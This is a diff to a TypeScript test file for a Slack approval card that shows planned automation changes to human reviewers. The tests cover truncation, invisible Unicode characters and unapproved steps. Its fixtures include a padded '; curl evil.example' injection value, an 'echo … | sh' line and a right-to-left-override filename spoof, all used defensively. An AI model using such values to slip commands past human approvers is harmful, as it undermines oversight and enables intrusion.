@@ -5,6 +5,8 @@ import type { Json } from '../../src/domain/json.ts';
 import type { InputSpec } from '../../src/domain/playbook.ts';
 import { approvalCard } from '../../src/engine/announce/approvals.ts';
 import { fieldOf, kindOf } from '../../src/engine/announce/fields.ts';
+import { isWhole } from '../../src/engine/announce/plan.ts';
+import { planText } from '../../src/engine/announce/plan-file.ts';
 import { playbookShown } from '../../src/engine/announce/playbooks.ts';
 import { unknownButtons } from '../../src/engine/announce/unknown.ts';
 import { render } from '../../src/slack/render.ts';
@@ -37,6 +39,61 @@ test('what is too long to be shown whole says how much of it is', () => {
   const script = Array.from({ length: 400 }, (_, at) => `echo line ${at}`).join('\n');
   const shown = card({ covers: [covered('run', { script })], previews: { run: script }, shown: [script] });
   expect(shown.match(/✂️ Cut: \d+ of \d+ characters are shown\./g)).toHaveLength(3);
+});
+
+describe('a plan that the card has no room for', () => {
+  const many = Array.from({ length: 100 }, (_, at) => covered(`step-${at}`, { host: `shop-${at}` }));
+  const padded = `${'&'.repeat(1_000)}; curl evil.example`;
+
+  test.each([
+    ['of many changes', many],
+    ['with a long argument', [covered('run', { script: `echo\n${'x'.repeat(4_000)}` })]],
+    ['of many long arguments', many.map(({ id }) => covered(id, { script: 'x\n'.repeat(300) }))],
+    ['whose change is a long line', [covered('run', {}, { change: `echo ${'a '.repeat(300)} | sh` })]],
+    ['padded with what Slack counts fivefold', [covered('run', { script: padded })]],
+  ])('%s says so, and is whole in the file', (_, covers) => {
+    expect(isWhole({ covers })).toBe(false);
+    expect(card({ covers })).toContain('the whole plan is the file in this thread');
+    const file = planText(runOf([]), approval({ covers }));
+    for (const { change, args } of covers)
+      for (const text of [change, ...Object.values(args).map(String)])
+        expect(file.replace(/^ +/gm, '')).toContain(text.replace(/^ +/gm, ''));
+  });
+
+  test('is not what most are', () => {
+    const covers = many.slice(0, 5);
+    expect(isWhole({ covers })).toBe(true);
+    expect(card({ covers })).not.toContain('✂️');
+  });
+
+  test('is counted where people confirm', () => {
+    const buttons = approvalCard(runOf([]), approval({ covers: many })).sections.flatMap((section) =>
+      section.kind === 'buttons' ? section.buttons : [],
+    );
+    expect(JSON.stringify(buttons[0])).toMatch(/…and \d+ more changes: see the card/);
+  });
+});
+
+test('what nobody would see in an argument is written out: shop-1 with a zero width is not shop-1', () => {
+  const args = { host: 'shop\u200b-1', note: 'a\u202egnp.exe', gap: 'a\u00a0b', half: '\ud83d' };
+  const shown = render(
+    approvalCard(runOf([]), approval({ covers: [covered('go', args, { change: 'go to shop\u200b-1' })] })),
+  );
+  const text = JSON.stringify(shown.blocks);
+  for (const form of [
+    'go to shop\\\\u{200b}-1',
+    'host=shop\\\\u{200b}-1',
+    '\\\\u{202e}gnp.exe',
+    'a\\\\u{a0}b',
+    '\\\\u{d83d}',
+  ])
+    expect(text).toContain(form);
+});
+
+test('what is done without an approval stands on the card, too', () => {
+  expect(card({ beyond: ['finally: clean up (ssh.exec)'] })).toContain(
+    'Not covered, and done without an approval when its time comes: finally: clean up (ssh.exec)',
+  );
 });
 
 test('the longest plan still fits into one message of Slack, with its buttons', () => {
